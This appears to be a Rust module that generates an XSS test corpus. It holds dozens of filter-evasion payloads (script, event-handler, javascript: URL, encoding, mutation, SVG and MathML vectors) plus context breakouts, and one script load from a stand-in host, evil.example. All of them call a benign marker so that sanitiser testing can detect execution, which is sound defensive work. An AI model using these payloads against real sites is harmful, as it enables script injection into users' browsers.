//! The XSS corpus: payloads generated from the families of the OWASP XSS filter-evasion
//! cheat sheet (script tags and their obfuscations, event handlers, `javascript:` and other
//! URL schemes, entity and encoding tricks), mutation XSS (markup that parses differently
//! the second time), SVG and MathML, each crossed with the contexts a value can land in:
//! text, a quoted or unquoted attribute, a URL, a Markdown link or image, raw HTML in
//! Markdown, and a closing tag of the element around it.
//!
//! Every payload calls the page's marker, `__xss(ID)`, with an id of its own, so an
//! execution names the payload that ran.

/// Where in a document a payload is written to break out of.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Context {
    /// Element text.
    Text,
    /// Inside an attribute value (double, single or no quotes).
    Attribute,
    /// A URL (href, src).
    Url,
    /// A Markdown link or image target.
    MarkdownLink,
    /// Raw HTML inside Markdown.
    RawHtml,
    /// Inside an element whose content is not markup (title, script, style, textarea, comment,
    /// CDATA).
    RawText,
}

#[derive(Debug, Clone)]
pub struct Payload {
    pub id: usize,
    pub family: &'static str,
    pub context: Context,
    pub text: String,
}

/// Markup vectors; `@@` is where the marker call goes.
const MARKUP: &[(&str, &str)] = &[
    ("script", "<script>@@</script>"),
    ("script", "<SCRIPT>@@</SCRIPT>"),
    ("script", "<script >@@</script >"),
    ("script", "<script/x>@@</script>"),
    ("script", "<script src=\"data:text/javascript,@@\"></script>"),
    ("script", "<scr<script>ipt>@@</scr</script>ipt>"),
    ("script", "<<script>@@//<</script>"),
    ("script", "<script>/*</script>*/@@</script>"),
    ("handler", "<img src=x onerror=@@>"),
    ("handler", "<IMG SRC=x ONERROR=\"@@\">"),
    ("handler", "<img src=x onerror='@@'>"),
    ("handler", "<img/src=x/onerror=@@>"),
    ("handler", "<img src=x:x onerror=@@//"),
    ("handler", "<img \"\"\"><script>@@</script>\">"),
    ("handler", "<img src=`x` onerror=`@@`>"),
    ("handler", "<img src=x onerror=\"&#77;\" onerror=@@>"),
    ("handler", "<body onload=@@>"),
    ("handler", "<input autofocus onfocus=@@>"),
    ("handler", "<select autofocus onfocus=@@>"),
    ("handler", "<textarea autofocus onfocus=@@>"),
    ("handler", "<details open ontoggle=@@>"),
    ("handler", "<video><source onerror=@@></video>"),
    ("handler", "<audio src=x onerror=@@>"),
    ("handler", "<marquee onstart=@@>x</marquee>"),
    ("handler", "<div style=\"animation-name:spin\" onanimationstart=@@>"),
    ("handler", "<p onclick=@@ onmouseover=@@>hover</p>"),
    ("frame", "<iframe src=\"javascript:@@\"></iframe>"),
    ("frame", "<iframe srcdoc=\"<script>parent.@@</script>\"></iframe>"),
    ("frame", "<iframe srcdoc=\"&lt;img src=x onerror=parent.@@&gt;\"></iframe>"),
    ("frame", "<object data=\"javascript:@@\"></object>"),
    ("frame", "<embed src=\"javascript:@@\">"),
    ("frame", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:@@\">"),
    ("frame", "<base href=\"javascript:@@//\">"),
    ("frame", "<form action=\"javascript:@@\"><button>x</button></form>"),
    ("frame", "<button formaction=\"javascript:@@\">x</button>"),
    ("frame", "<link rel=stylesheet href=\"javascript:@@\">"),
    ("style", "<style>@import 'javascript:@@';</style>"),
    ("style", "<div style=\"background:url(javascript:@@)\">x</div>"),
    ("style", "<div style=\"width:expression(@@)\">x</div>"),
    ("svg", "<svg onload=@@>"),
    ("svg", "<svg><script>@@</script></svg>"),
    ("svg", "<svg><script href=\"data:,@@\"/></svg>"),
    ("svg", "<svg><animate onbegin=@@ attributeName=x dur=1s>"),
    ("svg", "<svg><set onbegin=@@ attributeName=x to=1>"),
    ("svg", "<svg><a xlink:href=\"javascript:@@\"><text y=20>x</text></a></svg>"),
    ("svg", "<svg><image href=x onerror=@@ />"),
    ("svg", "<svg><foreignObject><img src=x onerror=@@></foreignObject></svg>"),
    ("svg", "<svg><style><img src=x onerror=@@></style></svg>"),
    ("mathml", "<math><mtext><table><mglyph><style><img src=x onerror=@@>"),
    ("mathml", "<math href=\"javascript:@@\">x</math>"),
    (
        "mathml",
        "<math><maction actiontype=statusline xlink:href=\"javascript:@@\">x</maction></math>",
    ),
    ("mathml", "<math><mi xlink:href=\"data:x,<script>@@</script>\">x</mi></math>"),
    ("mutation", "<noscript><p title=\"</noscript><img src=x onerror=@@>\">"),
    ("mutation", "<svg></p><style><a id=\"</style><img src=1 onerror=@@>\">"),
    ("mutation", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=@@>"),
    ("mutation", "<!--<img src=\"--><img src=x onerror=@@//\">"),
    ("mutation", "<textarea><img title=\"</textarea><img src=x onerror=@@>\">"),
    ("mutation", "<title><img title=\"</title><img src=x onerror=@@>\"></title>"),
    ("mutation", "<xmp><img title=\"</xmp><img src=x onerror=@@>\"></xmp>"),
    ("mutation", "<a title=\"<svg onload=@@>\">x</a>"),
    ("mutation", "<table><td><style></td><img src=x onerror=@@></style>"),
    ("mutation", "<![CDATA[><img src=x onerror=@@>]]>"),
    ("encoding", "&lt;img src=x onerror=@@&gt;"),
    ("encoding", "&#60;script&#62;@@&#60;/script&#62;"),
    ("encoding", "\\u003cimg src=x onerror=@@\\u003e"),
    ("encoding", "%3Cimg%20src=x%20onerror=@@%3E"),
    ("encoding", "+ADw-script+AD4-@@+ADw-/script+AD4-"),
    ("encoding", "<img src=x onerror=&#x4D;>"),
    ("encoding", "<img src=x onerror=\"javascript&colon;@@\">"),
    (
        "encoding",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;@@\">x</a>",
    ),
    ("template", "{{@@}}"),
    ("template", "{% raw %}<img src=x onerror=@@>{% endraw %}"),
    ("template", "${@@}"),
];

/// What a payload is put after to leave the context it lands in.
const BREAKOUTS: &[(&str, Context)] = &[
    ("", Context::Text),
    ("\">", Context::Attribute),
    ("'>", Context::Attribute),
    (" x=", Context::Attribute),
    ("</title>", Context::RawText),
    ("</script>", Context::RawText),
    ("</style>", Context::RawText),
    ("</textarea>", Context::RawText),
    ("-->", Context::RawText),
    ("]]>", Context::RawText),
];

/// URL vectors: `@@` is the marker call.
const URLS: &[&str] = &[
    "javascript:@@",
    "JaVaScRiPt:@@",
    " javascript:@@",
    "\tjavascript:@@",
    "java\tscript:@@",
    "java&#x09;script:@@",
    "&#106;avascript:@@",
    "&#x6A;avascript:@@",
    "javascript&colon;@@",
    "javascript:/*--></title></style></textarea></script><svg/onload=@@>*/",
    "vbscript:@@",
    "data:text/html,<script>@@</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload=@@>",
    "%6Aavascript:@@",
    "javascript://%0aM",
    "//evil.example/x.js?@@",
];

/// How a URL vector is used.
const URL_USES: &[(&str, Context)] = &[
    ("U", Context::Url),
    ("[link](U)", Context::MarkdownLink),
    ("![image](U)", Context::MarkdownLink),
    ("[ref link][r]\n\n[r]: U", Context::MarkdownLink),
    ("<U>", Context::MarkdownLink),
    ("<a href=\"U\">link</a>", Context::RawHtml),
    ("<img src=\"U\">", Context::RawHtml),
];

/// The marker call for payload `id`.
pub fn marker(id: usize) -> String {
    format!("__xss({id})")
}

/// Every payload: markup × breakouts, then URLs × their uses.
pub fn corpus() -> Vec<Payload> {
    let mut out = Vec::new();
    for (family, vector) in MARKUP {
        for (prefix, context) in BREAKOUTS {
            let id = out.len();
            let text = format!("{prefix}{}", vector.replace("@@", &marker(id)));
            let context = if *context == Context::Text && vector.starts_with('<') {
                Context::RawHtml
            } else {
                *context
            };
            out.push(Payload { id, family, context, text });
        }
    }
    for url in URLS {
        for (shape, context) in URL_USES {
            let id = out.len();
            let text = shape.replace('U', &url.replace("@@", &marker(id)));
            out.push(Payload { id, family: "url", context: *context, text });
        }
    }
    out
}

/// The corpus cut into values of at most `max` characters, payloads joined by `sep`: every
/// payload lands in one value of a field that holds `max` characters.
pub fn packed(corpus: &[Payload], max: usize, sep: &str) -> Vec<String> {
    let mut values = Vec::new();
    let mut cur = String::new();
    for p in corpus {
        let len = p.text.chars().count();
        if !cur.is_empty() && cur.chars().count() + sep.len() + len > max {
            values.push(std::mem::take(&mut cur));
        }
        if !cur.is_empty() {
            cur.push_str(sep);
        }
        cur.push_str(&p.text);
    }
    if !cur.is_empty() {
        values.push(cur);
    }
    values
}

/// The payloads that are a URL by themselves (for fields that hold one URL).
pub fn urls(corpus: &[Payload]) -> Vec<String> {
    corpus.iter().filter(|p| p.context == Context::Url).map(|p| p.text.clone()).collect()
}
